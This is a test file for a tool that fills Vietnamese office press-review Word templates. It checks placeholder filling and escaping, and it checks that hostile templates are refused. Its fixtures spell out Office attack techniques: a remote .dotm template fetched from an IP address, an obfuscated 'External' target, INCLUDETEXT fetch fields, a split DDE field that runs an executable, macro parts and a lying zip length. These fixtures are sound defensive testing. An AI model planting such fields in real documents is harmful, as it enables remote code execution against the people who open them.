/** Templates of an office's own: filled where they have a place, refused by name where they are no mere form. */
import { buffer } from 'node:stream/consumers';
import {
  Document,
  ExternalHyperlink,
  Header,
  Packer,
  Paragraph,
  SimpleField,
  Table,
  TableCell,
  TableRow,
  TextRun,
} from 'docx';
import { describe, expect, it } from 'vitest';
import { ZipFile } from 'yazl';
import { checkTemplate } from '../../press-review/docx/check.ts';
import { PLACEHOLDERS } from '../../press-review/docx/placeholders.ts';
import { defaultTemplate, fillTemplate } from '../../press-review/docx/template.ts';
import { unpack } from '../../press-review/docx/unpack.ts';
import { daily, item, periodic } from './sample.ts';

const docx = (children: Paragraph[]) => Packer.toBuffer(new Document({ sections: [{ children }] }));
const line = (text: string) => new Paragraph({ children: [new TextRun(text)] });

async function zip(files: Readonly<Record<string, string | Buffer>>): Promise<Buffer> {
  const file = new ZipFile();
  for (const [name, content] of Object.entries(files)) file.addBuffer(Buffer.from(content), name);
  file.end();
  return buffer(file.outputStream);
}

/** A template with further files in it. */
async function templateWith(files: Readonly<Record<string, string | Buffer>>): Promise<Buffer> {
  const own = await unpack(await defaultTemplate());
  return zip({ ...Object.fromEntries([...own].filter(([name]) => !name.endsWith('/'))), ...files });
}

const documentText = async (bytes: Uint8Array) =>
  ((await unpack(bytes)).get('word/document.xml') ?? '')
    .replace(/<\/w:p>/g, '\n')
    .replace(/<[^>]+>/g, '');

describe('a template', () => {
  it('to begin with has every placeholder and passes its own check', async () => {
    const template = await defaultTemplate();
    const text = await documentText(template);
    for (const name of PLACEHOLDERS) expect(text).toContain(`{{${name}}}`);
    await expect(checkTemplate(template)).resolves.toBeUndefined();
  });

  it('is filled, its own text stays, braces in the text are left alone', async () => {
    const template = await docx([
      line('Mẫu của Sở Bến Mơ'),
      line('{{tieu_de}}'),
      line('{{noi_dung}}'),
    ]);
    const text = await documentText(await fillTemplate(template, daily));
    expect(text).toContain('Mẫu của Sở Bến Mơ');
    expect(text).toContain('ĐIỂM BÁO – Ngày 26 tháng 5 năm 2023');
    expect(text).toContain('Chợ nổi dời về bến mới');
    expect(text.match(/\{\{noi_dung\}\}/g)).toHaveLength(1);
    expect(text).not.toContain('{{tieu_de}}');
  });

  it('with all placeholders holds contents, recipients and signature', async () => {
    const text = await documentText(await fillTemplate(await defaultTemplate(), periodic));
    for (const one of ['Tỉnh ủy Bến Mơ', 'Ban Tuyên giáo', 'I. Bảng tổng hợp', '- Lưu: VT'])
      expect(text).toContain(one);
    expect(text).toContain('CHÁNH VĂN PHÒNG');
    expect(text).toContain('Phùng Khắc Điệp');
    for (const name of PLACEHOLDERS.filter((one) => one !== 'noi_dung'))
      expect(text).not.toContain(`{{${name}}}`);
  });

  it('Regression: texts that look like XML stay as they are written, in the template and in the article', async () => {
    const odd = 'A & B &amp; C &amp;amp; &lt;p&gt; &#38; <b> D';
    const escaped = odd.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
    const plain = await docx([line(`Mẫu ${odd}`), line('{{tieu_de}}'), line('{{noi_dung}}')]);
    const { sections } = daily;
    const review = {
      ...daily,
      title: `Tên ${odd}`,
      sections: sections.map((one) => ({
        ...one,
        items: one.items.map((it) => ({ ...it, headline: `Tít ${odd}` })),
      })),
    };
    const text = await documentText(await fillTemplate(plain, review));
    for (const word of ['Mẫu', 'Tên', 'Tít']) expect(text).toContain(`${word} ${escaped}`);
  });

  it('finds a placeholder that is cut into several runs', async () => {
    const cut = new Paragraph({ children: [new TextRun('{{noi'), new TextRun('_dung}}')] });
    const text = await documentText(await fillTemplate(await docx([cut]), daily));
    expect(text).toContain('Chợ nổi dời về bến mới');
  });

  it('Regression: looks through nothing that it has filled in', async () => {
    const hostile = {
      ...daily,
      sections: [
        {
          id: 'muc-1',
          title: 'Mục {{noi_dung}}',
          byField: false,
          items: [
            item('1', { headline: 'Ai ký {{nguoi_ky}} đây' }),
            item('2', { headline: 'Bài {{noi_nhan}} khác', summary: '{{muc_luc}} {{co_quan}}' }),
          ],
        },
      ],
    };
    const text = await documentText(await fillTemplate(await defaultTemplate(), hostile));
    for (const one of [
      'I. Mục {{noi_dung}}',
      '1. Ai ký {{nguoi_ky}} đây',
      '2. Bài {{noi_nhan}} khác',
      '{{muc_luc}} {{co_quan}}',
    ])
      expect(text).toContain(one);
    expect(text.match(/Phùng Khắc Điệp/g)).toHaveLength(1);
  });

  it('Regression: is filled wherever a placeholder stands: header, table, twice in a line', async () => {
    const cell = new TableCell({ children: [line('{{co_quan}}'), line('{{noi_nhan}}')] });
    const template = await Packer.toBuffer(
      new Document({
        sections: [
          {
            headers: { default: new Header({ children: [line('Tin của {{co_quan}}')] }) },
            children: [
              line('Bìa'),
              line('{{ngay}} và {{ngay}}'),
              line('{{co_quan}}'),
              line('Giữa'),
              new Table({ rows: [new TableRow({ children: [cell] })] }),
              line('{{noi_dung}}'),
              line('Cuối'),
            ],
          },
        ],
      }),
    );
    const filled = await unpack(await fillTemplate(template, daily));
    const text = await documentText(await fillTemplate(template, daily));
    expect(text).not.toMatch(/\{\{(?:ngay|co_quan|noi_nhan)\}\}/);
    expect(text).toContain('Bến Mơ, ngày 26 tháng 5 năm 2023 và Bến Mơ, ngày 26 tháng 5 năm 2023');
    for (const own of ['Bìa', 'Giữa', 'Cuối', '- Lưu: VT']) expect(text).toContain(own);
    expect(text.match(/Văn phòng\n/g)).toHaveLength(2);
    const headers = [...filled].filter(([name]) => name.startsWith('word/header'));
    expect(headers.map(([, xml]) => xml).join('')).toMatch(/Tin của .*Văn phòng/s);
    const whole = [...filled].filter(([name]) => name.endsWith('.xml')).map(([, xml]) => xml);
    expect(whole.join('')).not.toMatch(/[\u0001\u0002]/);
  });

  /** The default one with its paragraph of {{noi_dung}} changed. */
  const withContent = async (change: (paragraph: string) => string) => {
    const xml = (await unpack(await defaultTemplate())).get('word/document.xml') ?? '';
    const one = /<w:p>(?:(?!<w:p>).)*\{\{noi_dung\}\}.*?<\/w:p>/s;
    expect(xml).toMatch(one);
    return templateWith({ 'word/document.xml': xml.replace(one, change) });
  };
  it.each([
    ['an unknown placeholder', () => docx([line('{{noi_dung}}'), line('{{noi dung}}')]), 'lạ'],
    ['the content twice', () => docx([line('{{noi_dung}}'), line('{{noi_dung}}')]), 'hai lần'],
    ['other words beside the content', () => docx([line('Kính gửi {{noi_dung}}')]), 'một mình'],
    [
      'a break of sections that would go with the content',
      () => withContent((one) => one.replace('<w:p>', '<w:p><w:pPr><w:sectPr/></w:pPr>')),
      'một mình',
    ],
    [
      'the content in a change that is followed',
      () => withContent((one) => one.replace(/<w:r>.*<\/w:r>/s, (run) => `<w:ins>${run}</w:ins>`)),
      'theo dõi thay đổi',
    ],
  ])('with %s says what to do', async (_, make, words) => {
    await expect(make().then((bytes) => fillTemplate(bytes, daily))).rejects.toMatchObject({
      code: 'template-placeholder',
      message: expect.stringContaining(words),
    });
  });

  it('Regression: with a file that is longer than it says is not unpacked to its end', async () => {
    const bytes = await templateWith({ 'word/media/a.png': Buffer.alloc(20 * 1024 * 1024) });
    // Its length in the list of files at the end, and in front of its bytes.
    const length = Buffer.alloc(4);
    length.writeUInt32LE(20 * 1024 * 1024);
    const lie = Buffer.alloc(4);
    lie.writeUInt32LE(1_000);
    let at = bytes.indexOf(length);
    expect(at).toBeGreaterThan(0);
    for (; at >= 0; at = bytes.indexOf(length)) lie.copy(bytes, at);
    await expect(fillTemplate(bytes, daily)).rejects.toMatchObject({ code: 'template-not-docx' });
  });

  it('with a password, or of an older Word, is told apart from what is none at all', async () => {
    const old = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000)]);
    await expect(fillTemplate(old, daily)).rejects.toMatchObject({
      code: 'template-not-docx',
      hint: expect.stringContaining('mật khẩu'),
    });
  });

  it('Regression: gives headings no look of its own, whatever it calls a heading', async () => {
    const template = await Packer.toBuffer(
      new Document({
        styles: { default: { heading1: { run: { font: 'Comic', size: 80 } } } },
        sections: [{ children: [line('{{noi_dung}}')] }],
      }),
    );
    const xml = (await unpack(await fillTemplate(template, daily))).get('word/document.xml') ?? '';
    expect(xml).not.toContain('w:pStyle');
    expect(xml).toMatch(/<w:outlineLvl w:val="0"\/>/);
  });

  it('may number its pages and write the day', async () => {
    const template = await docx([
      line('{{noi_dung}}'),
      new Paragraph({
        children: [new SimpleField('PAGE'), new SimpleField('DATE \\@ "d/M/yyyy"')],
      }),
    ]);
    await expect(checkTemplate(template)).resolves.toBeUndefined();
  });

  it.each([
    ['no zip', async () => Buffer.from('xin chào'), 'template-not-docx'],
    ['a zip of something else', () => zip({ 'a.txt': 'a' }), 'template-not-docx'],
    ['no place for the content', () => docx([line('{{ngay}}')]), 'template-no-content'],
    ['macros', () => templateWith({ 'word/vbaProject.bin': 'x' }), 'template-macros'],
    [
      'macros by their type',
      () =>
        templateWith({
          '[Content_Types].xml':
            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        }),
      'template-macros',
    ],
    [
      'a template behind it',
      () =>
        templateWith({
          'word/_rels/settings.xml.rels':
            '<Relationships><Relationship Target="http://198.51.100.7/a.dotm" TargetMode="External"/></Relationships>',
        }),
      'template-external',
    ],
    [
      'a template behind it that is spelt otherwise',
      () =>
        templateWith({
          'word/_rels/settings.xml.rels':
            '<Relationships><Relationship Target="http://198.51.100.7/a.dotm" TargetMode="Extern&#97;l"/></Relationships>',
        }),
      'template-external',
    ],
    [
      'a part in another encoding',
      () =>
        templateWith({
          'word/_rels/settings.xml.rels': Buffer.from('\ufeff<Relationships/>', 'utf16le'),
        }),
      'template-not-docx',
    ],
    [
      'a field that fetches',
      () =>
        docx([
          line('{{noi_dung}}'),
          new Paragraph({ children: [new SimpleField('INCLUDETEXT "http://a.example/b.docx"')] }),
        ]),
      'template-external',
    ],
    [
      'a field that fetches, cut into pieces',
      () =>
        withContent(
          (one) =>
            `${one}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\a.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
      'template-external',
    ],
    [
      'a document within it',
      () => templateWith({ 'word/afchunk.htm': '<img src="http://a.example/">' }),
      'template-macros',
    ],
    [
      'a link',
      () =>
        docx([
          line('{{noi_dung}}'),
          new Paragraph({
            children: [
              new ExternalHyperlink({ link: 'https://a.example/', children: [new TextRun('a')] }),
            ],
          }),
        ]),
      'template-external',
    ],
    ['over 5 MB', async () => Buffer.alloc(5 * 1024 * 1024 + 1), 'template-too-large'],
    [
      'over 50 MB unpacked',
      () => templateWith({ 'word/media/a.bin': Buffer.alloc(51 * 1024 * 1024) }),
      'template-too-large',
    ],
  ])('with %s is refused by name', async (_, make, code) => {
    await expect(make().then((bytes) => fillTemplate(bytes, daily))).rejects.toMatchObject({
      code,
    });
  });
});
